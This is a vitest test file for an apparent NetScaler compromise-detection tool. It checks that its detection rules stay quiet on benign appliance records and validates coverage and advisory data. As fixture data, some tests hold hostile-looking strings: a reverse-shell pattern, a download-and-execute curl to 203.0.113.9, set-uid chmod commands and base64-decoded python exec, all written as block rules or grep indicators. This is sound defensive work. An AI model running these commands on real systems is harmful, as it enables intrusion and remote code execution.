import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { parse } from 'yaml';
import type { Category } from '../../src/artifacts/artifact.ts';
import { contentComparisons } from '../../src/findings/content-comparisons.ts';
import { searchContent } from '../../src/findings/content-search.ts';
import { compileCondition } from '../../src/findings/match.ts';
import { lineFilter } from '../../src/findings/prefilter.ts';
import { testContent } from '../../src/findings/run-rule-tests.ts';
import { testRecord } from '../../src/findings/test-record.ts';
import { loadAdvisories } from '../../src/rules/advisory.ts';
import { loadRules } from '../../src/rules/load-rules.ts';
import type { RuleTest, SigmaRule } from '../../src/rules/rule.ts';
import { shippedRules } from '../../src/rules/rule-files.ts';

const { ruleSet } = await loadRules({ dirs: [shippedRules()] });
const sigmaRules = ruleSet.rules.filter((rule): rule is SigmaRule => rule.kind === 'sigma');

/** Names of the shipped rules, above `informational`, that a record meets. */
function raisedBy(category: Category, record: RuleTest): string[] {
  const artifact = testRecord(record, category);
  const content = testContent(record) ?? '';
  return sigmaRules
    .filter((rule) => rule.category === category && rule.level !== 'informational' && !rule.isBuildingBlock)
    .filter((rule) => {
      const comparisons = contentComparisons(rule.condition);
      return compileCondition(rule.condition, ruleSet.lists)(artifact, (id) => {
        const comparison = comparisons.get(id);
        return comparison !== undefined && searchContent(comparison, content, ruleSet.lists);
      });
    })
    .map(({ name }) => name);
}

const nobody = { type: 'file', owner: 'nobody', uid: 65534 } as const;
/** What healthy appliances have. Sources: martclau/netscaler-ir-collector, x1sec and mandiant notes on CVE-2019-19781, NCSC-NL/citrix-2025. */
const stock: readonly { readonly name: string; readonly category: Category; readonly record: RuleTest }[] = [
  ...[
    'newsyslog',
    'purge_tickets.sh',
    'adjkerntz -a',
    'nsfsyncd -p',
    'nslog.sh dozip',
    'curl http://localhost -o /dev/null 2>&1 > /dev/null',
    '/netscaler/adss-licexp.sh',
    '/netscaler/ns_cleanup.sh',
    'lockf -t 0 -k -s /tmp/.nsfsyncd_lock /netscaler/nsfsyncd -p',
  ].map((command) => ({
    name: `the stock job ${command}`,
    category: 'cron' as const,
    record: { path: '/etc/crontab', user: 'root', schedule: '* * * * *', command },
  })),
  ...[
    ['root', 'nsppe (NSPPE-00)', 100],
    ['root', '[idle]', 100],
    ['root', '/bin/httpd', 0],
    ['nobody', '/bin/httpd', 0],
    ['nobody', '/netscaler/cfdgetstream', 0],
    ['root', 'php /netscaler/websocketd/websocket-ssh-deamon.php', 0],
    ['root', '/usr/bin/bash /netscaler/nsproflog.sh cpuuse=900 start', 0],
    ['root', 'sh /netscaler/nssync.sh start', 0],
    ['root', '/netscaler/nscopo -vv -p', 0],
    ['nsmonitor', '/usr/bin/perl -w /netscaler/monitors/nsldap.pl base=dc=example,dc=org', 0],
    ['nsmonitor', '/netscaler/nsumond', 0],
    ['root', '/var/tmp/par-6e73726f6f74/cache-0a1b/nsgslbautosync', 0],
    ['root', 'sshd: nsroot@pts/0 (sshd)', 0],
    ['root', '/var/python/bin/python3 /var/mastools/scripts/mas_hb.py', 0],
  ].map(([user, command, cpu]) => ({
    name: `the stock process ${String(command)} of ${String(user)}`,
    category: 'process' as const,
    record: { user, pid: 99, command, cpu },
  })),
  ...['/netscaler/ping6', '/sbin/shutdown', '/usr/bin/su', '/usr/libexec/ssh-keysign', '/opt/likewise/bin/ksu'].map(
    (path) => ({
      name: `the set-uid program ${path}`,
      category: 'file' as const,
      record: { path, type: 'file', mode: '4555', owner: 'root', uid: 0 },
    }),
  ),
  {
    name: 'set-uid metadata of a pid file',
    category: 'file',
    record: { path: '/var/run/nsprofmgmt.pid', type: 'file', mode: '6644', owner: 'root' },
  },
  {
    name: 'the set-gid device number file',
    category: 'file',
    record: { path: '/var/configd_devno', type: 'file', mode: '2755', owner: 'root' },
  },
  {
    name: 'a bookmark written by the web server',
    category: 'file',
    record: { path: '/var/vpn/bookmark/alice.xml', magic: 'xml', ...nobody },
  },
  {
    name: 'an upgrade package of nobody',
    category: 'file',
    record: { path: '/var/nsinstall/build-14.1-73.37_nc_64.tgz', magic: 'gzip', ...nobody },
  },
  {
    name: 'a log of the management interface that is called .php',
    category: 'file',
    record: {
      path: '/var/tmp/log-2026-11-20.php',
      mode: '0644',
      magic: 'php',
      ...nobody,
      content: "<?php defined('BASEPATH') OR exit('No direct script access allowed'); ?>\n\nERROR - 2026-11-20 --> x\n",
    },
  },
  {
    name: 'Perl of a stock theme',
    category: 'file',
    record: {
      path: '/var/netscaler/logon/themes/EULA/eula_upgrade.pl',
      type: 'file',
      mode: '0555',
      magic: 'perl',
      content: '#!/usr/bin/perl\n',
    },
  },
  {
    name: 'PHP of the management interface',
    category: 'file',
    record: {
      path: '/netscaler/ns_gui/admin_ui/php/application/controllers/common/login.php',
      type: 'file',
      mode: '0444',
      magic: 'php',
      content: '<?php $x = base64_decode($token); exec("/netscaler/nscli"); ?>',
    },
  },
  {
    name: 'a client package',
    category: 'file',
    record: { path: '/var/netscaler/gui/vpn/scripts/linux/nsginstaller64.deb', type: 'file', magic: 'deb' },
  },
  {
    name: 'a library unpacked by vendor Perl',
    category: 'file',
    record: { path: '/var/tmp/par-6e73/cache-1/auto.so', type: 'file', magic: 'elf', size: 90_000, mode: '0755' },
  },
  {
    name: 'the report of another checking tool',
    category: 'file',
    record: {
      path: '/var/log/custom_checks_20261120.log',
      type: 'file',
      content: 'searching: fnoc.dptth hs/pmt/rav/ base64.b85decode python3 -c <?php eval($_POST',
    },
  },
  ...[
    'MAC/veriexec: no fingerprint (file=/var/tmp/ctx_check.sh fsid=1 fileid=2 gen=1 uid=0 pid=9)',
    'MAC/veriexec: fingerprint does not match loaded value (file=/netscaler/showtechsupport.pl fsid=1 fileid=2)',
    'pitboss Mon Nov 23 09:15:01 2026  NOT restarting NSPPE-00 (1202)',
  ].map((message) => ({
    name: `the message ${message}`,
    category: 'syslog' as const,
    record: { log: 'messages', program: 'kernel', message },
  })),
  {
    name: 'extra PHP extensions of a stock handler',
    category: 'httpd_config',
    record: { text: 'AddHandler application/x-httpd-php .php .php5 .phtml', section: '', commented: false },
  },
  {
    name: 'a vendor mitigation in rc.netscaler',
    category: 'startup',
    record: { path: '/nsconfig/rc.netscaler', text: 'nsapimgr_wr.sh -ys skip_systemaccess_policyeval=0' },
  },
  ...[
    'grep -rE "eval\\(\\$_POST|<\\?php|chmod u\\+s|touch -t|bash -i >& /dev/tcp/" /var/vpn /var/netscaler/logon',
    "zgrep -h 'rm -rf /var/log/' /var/log/bash.log.*.gz",
    'kill -0 $pid',
    'tail -f /var/log/ns.log',
    'cp /nsconfig/custom.css /var/netscaler/logon/themes/Company/css/custom.css',
  ].map((command) => ({
    name: `the administrator's command ${command}`,
    category: 'shell' as const,
    record: { user: 'nsroot', tty: '/dev/pts/0', shell: 'bash', command },
  })),
  ...[
    'add policy patset block_ioc',
    'bind policy patset block_ioc "chmod 4755 /var/tmp/sh" -index 1',
    'bind policy patset block_ioc "python3 -c exec(base64.b85decode(" -index 2',
    'add responder policy p "HTTP.REQ.URL.CONTAINS(\\"; curl http://203.0.113.9/a|sh\\")" DROP',
    'add responder policy q "HTTP.REQ.BODY(1000).CONTAINS(\\"bash -i >& /dev/tcp/\\")" DROP',
  ].map((command) => ({
    name: `the configuration command ${command}`,
    category: 'shell' as const,
    record: { user: 'nsroot', shell: 'cli', source_ip: '192.0.2.7', command },
  })),
];

test.each(stock)('$name raises nothing above informational', ({ category, record }) => {
  expect(raisedBy(category, record)).toEqual([]);
});

test('an indicator that stands in a rule of the configuration raises nothing above informational', () => {
  const text = 'add responder policy p "HTTP.REQ.URL.CONTAINS(\\"/var/tmp/sh;python3 -c fnoc.dptth\\")" DROP';
  expect(raisedBy('nsconf', { text })).toEqual([]);
  expect(raisedBy('file', { path: '/nsconfig/ns.conf', type: 'file', content: text })).toEqual([]);
});

/** A single rule without words to look for makes a scan parse every line of every log. */
test('every rule on log lines has words that the fast filter can look for', () => {
  const without = sigmaRules
    .filter(({ category }) => ['ns', 'webserver', 'shell', 'syslog', 'cron'].includes(category))
    .filter(({ condition, category }) => lineFilter(condition, category, ruleSet.lists) === undefined)
    .map(({ name }) => name);
  expect(without).toEqual([]);
});

test('the shipped advisories are without fault, and each names a fixed build', async () => {
  const { advisories, endOfLife, problems } = await loadAdvisories([shippedRules()]);
  expect(problems).toEqual([]);
  expect(advisories.filter(({ fixed }) => Object.keys(fixed).length === 0)).toEqual([]);
  expect(advisories.length).toBeGreaterThanOrEqual(60);
  expect(Object.keys(endOfLife)).toContain('13.0');
});

const notes = readdirSync(shippedRules(), { withFileTypes: true })
  .filter((entry) => entry.isDirectory() && readdirSync(join(shippedRules(), entry.name)).includes('coverage.yml'))
  .map(({ name }) => ({ pack: name }));

test.each(notes)('the coverage notes of $pack name rules that exist, or say why there is none', ({ pack }) => {
  const { coverage } = parse(readFileSync(join(shippedRules(), pack, 'coverage.yml'), 'utf8'));
  const names = new Set(ruleSet.rules.map(({ name }) => name));
  for (const { id, rules, note } of coverage ?? []) {
    expect(
      (rules ?? []).filter((name: string) => !names.has(name)),
      String(id),
    ).toEqual([]);
    expect((rules ?? []).length > 0 || typeof note === 'string', String(id)).toBe(true);
  }
});
